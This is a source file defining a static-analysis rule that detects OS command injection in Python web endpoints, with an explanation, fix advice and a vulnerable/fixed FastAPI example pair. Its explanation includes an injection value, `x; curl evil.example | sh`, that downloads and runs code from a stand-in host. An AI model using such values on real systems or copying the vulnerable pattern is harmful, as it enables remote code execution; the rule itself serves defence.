import { requestFinding, requestFlows, rule } from "#rule"

export default rule({
  summary: "What a client sends becomes part of a command that a shell runs",
  why: `
A shell reads the whole line: a name such as \`x; curl evil.example | sh\` is two more commands. Quotes around the value are
part of the text, and so can be closed by it. Given as a list, every argument stays one argument.
`,
  help: 'Give a list and no shell: `subprocess.run(["convert", path])`; where a shell is needed, `shlex.quote` each value',
  concern: "security",
  level: "error",
  docs: "https://cheatsheetseries.owasp.org/cheatsheets/OS_Command_Injection_Defense_Cheat_Sheet.html",
  equivalents: ["S602", "S604", "S605", "S2076"],
  cwe: ["CWE-78"],
  exemptions: ["arguments in a list, without `shell=True`", "`shlex.quote`, numbers, enums, values compared with a list"],
  examples: [
    {
      bad: `
        import subprocess
        from fastapi import FastAPI

        app = FastAPI()

        @app.post("/ping")
        def ping(host: str) -> dict[str, int]:
            done = subprocess.run(f"ping -c 1 {host}", shell=True) # expect: \`host\` of \`POST /ping\` is part of the command that \`subprocess.run\` runs
            return {"code": done.returncode}
      `,
      good: `
        import subprocess
        from fastapi import FastAPI

        app = FastAPI()

        @app.post("/ping")
        def ping(host: str) -> dict[str, int]:
            done = subprocess.run(["ping", "-c", "1", "--", host])
            return {"code": done.returncode}
      `,
    },
  ],

  *project(project) {
    for (const flow of requestFlows(project, ["command"])) yield requestFinding(flow, "is part of the command that {callee} runs")
  },
})
